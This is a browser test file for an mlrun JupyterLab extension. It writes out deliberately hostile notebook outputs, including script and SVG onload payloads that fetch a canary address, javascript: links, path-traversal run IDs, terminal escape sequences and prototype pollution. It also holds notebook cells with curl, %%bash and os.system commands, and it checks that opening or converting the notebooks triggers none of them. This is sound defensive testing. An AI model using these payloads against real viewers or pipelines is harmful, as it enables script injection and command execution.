"""Notebooks made to do harm, opened in JupyterLab, trusted and not, and converted."""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import nbformat
import pytest

import mlrun_jupyter as m
from mlrun_jupyter.errors import MlrunError
from tests.ui.lab.conftest import write

if TYPE_CHECKING:
    from playwright.sync_api import Page, Request

    from tests.ui.lab.conftest import Jupyter

pytestmark = pytest.mark.browser
EACH = 1 if os.environ.get("MLRUN_TEST_TIER") == "full" else 10  # outputs of a notebook: its kernel is what takes time
RUN = "application/vnd.mlrun-jupyter.run+json"
BUNDLES = """
import json, mlrun_jupyter as m
runs = m.get_run_db().list_runs(name="=train")
shown = {"run": runs[0], "runs": runs, "compare": runs.compare()}
bundles = {name: each._repr_mimebundle_() for name, each in shown.items()}
with open("bundles.json", "w") as file:
    json.dump(bundles, file, default=str)
"""

SHOWN = """path => {
  const widget = window.jupyterapp.shell.currentWidget;
  return widget?.context?.path === path && widget.node.querySelectorAll('.jp-OutputArea-output').length > 0;
}"""


def forged(bundle: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """A bundle with other fields in its view, and nothing but the view."""
    (kind,) = (name for name in bundle if name.startswith("application/vnd.mlrun-jupyter"))
    return {kind: copy.deepcopy(bundle[kind]) | changes, "text/plain": "x"}


def everywhere(value: Any, text: str) -> Any:
    """The same shape with another text in place of every one but those that say what it is."""
    if isinstance(value, dict):
        return {key: each if key in ("kind", "state") else everywhere(each, text) for key, each in value.items()}
    if isinstance(value, list):
        return [everywhere(each, text) for each in value]
    return text if isinstance(value, str) else value


def outputs(bundles: dict[str, Any], canary: str) -> dict[str, dict[str, Any]]:
    """What the twenty notebooks hold, by what each is up to."""
    run, runs, compare = bundles["run"], bundles["runs"], bundles["compare"]
    page = f"<img src={canary}/img><script>fetch('{canary}/fetch')</script>"
    live = {"live": True, "state": "running"}
    item = {"key": "page", "kind": "html", "project": "..", "db_key": "..", "uid": "x", "path": f"{canary}/artifact"}
    forgeries = {
        "follows a run elsewhere": forged(run, **live, project="..", uid=".."),
        "follows a path": forged(run, **live, uid="../../../../api/terminals"),
        "follows an address": forged(run, **live, uid=f"{canary}/uid", project=canary),
        "follows a number that is none": forged(run, **live, iteration="../../abort"),
        "follows a document": forged(run, **live, uid={"toString": "x"}, project=["default"]),
        "names an artifact that leads out": forged(run, artifacts={"items": [item], "more": 0}),
        "is text that is a page": everywhere(forged(run), page),
        "is text that is an address": everywhere(forged(run), f"{canary}/text"),
        "is text that is a script's address": everywhere(forged(run), "javascript:fetch('" + canary + "/href')"),
        "is text that colours": everywhere(forged(run), f"\x1b]8;;{canary}/link\x07x\x1b]8;;\x07\x1b]52;c;eA==\x07"),
        "is a list of pages": everywhere(forged(runs), page),
        "is a comparison of pages": everywhere(forged(compare), page),
        "has no shape": {RUN: [1, 2, {"kind": "run"}], "text/plain": "x"},
        "has fields of other kinds": forged(run, results="x", artifacts=7, params=None, series={"a": "b"}, **live),
        "is deep": {RUN: {"kind": "run", "version": 1, "results": _nested(200)}, "text/plain": "x"},
        "is of the future": forged(run, version=99, **live),
        "reaches into objects": {RUN: {"kind": "run", "version": 1, "__proto__": {"client": page}, **live}},
        # no picture in it: JupyterLab's table of contents parses the HTML of a trusted notebook, shown or not
        "brings its own page": {"text/html": f"<script>fetch('{canary}/page')</script>", **forged(run)},
        "brings its own picture": {
            "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{canary}/svg')\"/>",
            **forged(run),
        },
        "asks for a command": forged(
            run,
            name="<button data-commandlinker-command='mlrun-jupyter:rerun' data-commandlinker-args='{}'>x</button>",
        ),
    }
    assert len(forgeries) == 20
    return forgeries


def _nested(depth: int) -> Any:
    return {"x": _nested(depth - 1)} if depth else 1


@pytest.fixture
def notebooks(jupyter: Jupyter, canary: tuple[str, list[str]]) -> list[str]:
    jupyter.python(BUNDLES)
    bundles = json.loads((jupyter.folder / "bundles.json").read_text())
    cells = []
    for purpose, data in outputs(bundles, canary[0]).items():
        output = nbformat.v4.new_output("execute_result", data, execution_count=1)
        cells.append(nbformat.v4.new_code_cell(f"# {purpose}", outputs=[output], execution_count=1))
    names = []
    for number in range(0, len(cells), EACH):
        names.append(f"hostile-{number}.ipynb")
        write(jupyter.folder, names[-1], cells[number : number + EACH])
    return names


@pytest.fixture
def asked(page: Page) -> list[Request]:
    """Everything that the page asks for."""
    seen: list[Request] = []
    page.on("request", lambda request: seen.append(request))
    return seen


@pytest.mark.parametrize("trusted", [True, False])
def test_opening_does_nothing_but_look(
    trusted: bool,
    notebooks: list[str],
    page: Page,
    jupyter: Jupyter,
    asked: list[Request],
    canary: tuple[str, list[str]],
) -> None:
    if trusted:
        for name in notebooks:
            jupyter.trust(name)
    page.goto(jupyter.address(f"lab/workspaces/hostile-{trusted}/tree/{notebooks[0]}?reset"))
    page.wait_for_selector(".jp-Notebook .jp-Cell")
    for name in notebooks:
        page.evaluate("path => window.jupyterapp.commands.execute('docmanager:open', {path}).then(() => null)", name)
        page.wait_for_function(SHOWN, arg=name)
        page.wait_for_timeout(200)
    page.wait_for_timeout(2500)  # a card that follows its run asks about every second
    ours = [each for each in asked if "mlrun-jupyter/api/" in each.url]
    known = ("/api/runs/", "/api/changes", "/api/projects", "/api/libraries/")
    assert {each.method for each in ours} <= {"GET"}
    assert [each.url for each in ours if not any(path in urlsplit(each.url).path for path in known)] == []
    assert bool(ours) == trusted  # who is trusted follows the one run that is there
    assert page.locator(".mj-card").count() > 0
    away = [each.url for each in asked if urlsplit(each.url).scheme in ("http", "https", "ws")]
    assert [url for url in away if urlsplit(url).netloc != urlsplit(jupyter.url).netloc] == []
    assert canary[1] == []


def test_converting_runs_no_cell_and_no_magic(
    tmp_path: Path, canary: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    address, reached = canary
    touched = tmp_path / "touched"
    cells = [
        f"import urllib.request\nurllib.request.urlopen('{address}/cell')\nopen({str(touched)!r}, 'w')",
        f"!touch {touched}\n%run {address}/magic.py\n%load_ext {touched}",
        f"%%bash\ntouch {touched}\ncurl {address}/bash",
        f"%%writefile {touched}\nx",
        f"# nuclio: start-code\nx = !curl {address}/line\ny = __import__('os').system('touch {touched}')",
        f"%nuclio cmd touch {touched}\n%nuclio config spec.build.commands = ['$(touch {touched})']",
        "# mlrun: function\ndef handler(context, x: __import__('os').system('touch canary') = 1):\n    return x",
    ]
    monkeypatch.chdir(tmp_path)
    write(tmp_path, "job.ipynb", [nbformat.v4.new_code_cell(each) for each in cells])
    try:
        m.code_to_function("job", filename="job.ipynb", kind="job")
    except MlrunError as refusal:
        assert "cell" in str(refusal)
    assert reached == [] and not touched.exists() and not (tmp_path / "canary").exists()
